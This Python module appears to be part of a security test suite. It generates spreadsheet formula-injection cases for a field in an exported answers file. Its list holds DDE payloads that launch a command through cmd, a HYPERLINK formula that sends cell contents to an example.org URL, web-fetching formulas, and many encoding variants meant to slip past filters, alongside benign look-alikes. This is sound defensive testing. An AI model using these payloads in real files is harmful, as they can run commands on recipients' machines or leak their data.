"""What a spreadsheet takes for a formula when it opens a list of gaps."""

from __future__ import annotations

from hostile.base import answers, inert, loads, quoted
from hostile.cases import Case

FORMULAS = {
    "sum": "=1+1",
    "command": "=cmd|' /C calc'!A0",
    "plus": "+1+1",
    "minus": "-1+1",
    "minus command": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1,1)",
    "pipe": "|cmd",
    "percent": "%0A=1+1",
    "link": '=HYPERLINK("https://example.org/?x="&A1,"x")',
    "web": '=WEBSERVICE("https://example.org/")',
    "import": '=IMPORTXML("https://example.org/","//x")',
    "picture": '=IMAGE("https://example.org/x.png")',
    "exchange of data": '=DDE("cmd";"/C calc";"x")',
    "quote before": "'=1+1",
    "quotes": '"=1+1"',
    "quote and comma": '",=1+1,"',
    "quote, comma and line": '"\n=1+1,"',
    "semicolons": ";=1+1;",
    "a tab before": "\t=1+1",
    "a blank before": " =1+1",
    "a line before": "\n=1+1",
    "a wide blank before": "\u3000=1+1",
    "a no-break blank before": "\u00a0=1+1",
    "full-width equals": "＝1+1",
    "full-width plus": "＋1＋1",
    "full-width minus": "－1",
    "full-width at": "＠SUM(1,1)",
    "a hidden one before": "\u200b=1+1",
    "a mark of order before": "\ufeff=1+1",
    "a number": "-1",
    "a percentage": "%",
    "a dash": "- none",
    "a long dash": "– none",
    "a name": "@lead",
    "a telephone": "+86 10 0000 0000",
    "a smile": "=)",
    "an arrow": "=> done",
    "a line of comment": "#N/A",
    "an exponent": "1E9",
    "a date": "1-2",
}


def _owner(name: str, text: str) -> Case:
    """The formula at the beginning of the owner, the one text of a file that gets into the list."""
    body = f"[answers.Q-01]\nrating = 'no'\nnote = 'made for {name}'\nowner = {quoted(text)}\n"
    return loads("sheet", f"owner of {name}", answers(body), f"made for {name}")


CASES: list[Case] = [
    *(_owner(name, text) for name, text in FORMULAS.items()),
    *inert("sheet", list(FORMULAS.items())[::4]),
]
